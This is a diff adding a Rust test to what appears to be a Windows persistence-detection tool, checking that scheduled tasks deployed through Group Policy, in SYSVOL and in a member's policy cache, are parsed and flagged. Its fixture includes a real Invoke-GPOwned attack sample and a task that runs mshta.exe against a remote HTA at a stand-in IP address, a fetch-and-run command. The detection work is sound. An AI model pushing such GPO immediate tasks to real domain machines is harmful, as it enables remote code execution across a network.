@@ -492,3 +492,81 @@ fn a_registry_only_task_without_a_date_is_timed_by_its_key() {
         Some(key_time)
     );
 }
+
+/// #33: tasks a GPO deploys, on a domain controller's SYSVOL and in a member's cache of a
+/// policy (a Windows tree: the real Invoke-GPOwned `ScheduledTasks.xml` on the machine side
+/// of one policy, a user-side item written to MS-GPPREF for this test in the cache): each item
+/// is a task record with `sources` `gpo` and its `gpo` item, the policy and side from the path.
+#[test]
+fn gpo_tasks_in_sysvol_and_the_members_cache() {
+    let Some(real) = real_corpus() else { return };
+    let root = scratch().join("gpo-tree");
+    let _ = std::fs::remove_dir_all(&root);
+    let guid = "{31B2F340-016D-11D2-945F-00C04FB984F9}";
+    let machine = root.join(format!(
+        "Windows/SYSVOL/sysvol/corp.example/Policies/{guid}/Machine/Preferences/ScheduledTasks"
+    ));
+    let cache = root.join(
+        "ProgramData/Microsoft/Group Policy/History/{6AC1786C-016F-11D2-945F-00C04FB984F9}/S-1-5-21-1-2-3-1104/Preferences/ScheduledTasks",
+    );
+    for d in [&machine, &cache, &root.join("Windows/System32/Tasks")] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    std::fs::copy(
+        real.join("gpo/n0troot__Invoke-GPOwned__ScheduledTasks.xml"),
+        machine.join("ScheduledTasks.xml"),
+    )
+    .unwrap();
+    std::fs::write(
+        cache.join("ScheduledTasks.xml"),
+        r#"<ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118ACCC}"><ImmediateTask clsid="{9F030EBD-1E5E-4d0e-A33A-1A5B7F1F6BE3}" name="UserOneShot" changed="2024-05-06 07:08:10" uid="{8}"><Properties action="C" name="UserOneShot" appName="mshta.exe" args="http://203.0.113.9/a.hta"/></ImmediateTask></ScheduledTasks>"#,
+    )
+    .unwrap();
+    let r = Evidence::open(&root).unwrap().scan(ScanSet::none().tasks());
+    let gpo: Vec<_> = r
+        .scheduled_tasks
+        .iter()
+        .filter(|t| t.gpo.is_some())
+        .collect();
+    assert_eq!(gpo.len(), 2, "{:?}", r.errors);
+    let owned = gpo.iter().find(|t| t.task.name == "\\OWNED").unwrap();
+    let g = owned.gpo.as_ref().unwrap();
+    assert_eq!(
+        (g.policy.as_deref(), g.side.as_deref()),
+        (Some(guid), Some("machine"))
+    );
+    assert!(owned
+        .source
+        .path
+        .ends_with("/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml"));
+    assert_eq!(owned.task.sources, [foothold_windows::TaskSource::Gpo]);
+    let user = gpo.iter().find(|t| t.task.name == "\\UserOneShot").unwrap();
+    let g = user.gpo.as_ref().unwrap();
+    assert_eq!(
+        (g.policy.as_deref(), g.side.as_deref(), g.kind.as_str()),
+        (
+            Some("{6AC1786C-016F-11D2-945F-00C04FB984F9}"),
+            Some("user"),
+            "immediate_task"
+        )
+    );
+    assert_eq!(user.task.actions[0].command.as_deref(), Some("mshta.exe"));
+    assert!(r.errors.is_empty(), "{:?}", r.errors);
+    // Findings weigh how it is deployed: every GPO task is, an immediate one more so.
+    let findings = r.findings();
+    let owned = findings
+        .iter()
+        .find(|(f, _)| f.subject.name == "\\OWNED")
+        .map(|(f, _)| f)
+        .unwrap();
+    let ids: Vec<&str> = owned.reasons.iter().map(|x| x.id.as_str()).collect();
+    assert!(
+        ids.contains(&"gpo_deployed") && ids.contains(&"gpo_immediate"),
+        "{ids:?}"
+    );
+    assert!(
+        owned.techniques.iter().any(|t| t == "T1484.001"),
+        "{:?}",
+        owned.techniques
+    );
+}
